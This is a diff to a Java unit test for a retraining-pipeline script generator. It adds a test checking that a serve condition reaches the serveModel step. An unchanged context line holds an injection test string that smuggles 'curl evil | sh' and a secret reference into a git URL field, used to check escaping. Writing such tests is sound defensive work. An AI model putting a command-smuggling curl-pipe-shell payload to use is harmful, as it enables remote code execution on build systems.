@@ -38,4 +38,13 @@ class RetrainPipelineTest {
         assertThat(script).contains("git url: 'https://x/\\'; sh \\'curl evil | sh\\'; \\'${env.SECRET}\\\\\\nmore'\n");
         assertThat(RetrainPipeline.quote("a'b\\c\nd\re")).isEqualTo("'a\\'b\\\\c\\nd\\re'");
     }
+
+    @Test
+    void aTasksServeConditionReachesServeModel() {
+        String script = RetrainPipeline.script("retrain", java.util.Optional.of("default"),
+                java.util.Optional.of("metrics.r2 >= live"), java.util.Optional.empty(), java.util.Optional.empty(),
+                java.util.Optional.empty());
+        org.assertj.core.api.Assertions.assertThat(script).contains("  serveModel service: 'default', version:"
+                + " training.version, condition: 'metrics.r2 >= live'\n");
+    }
 }
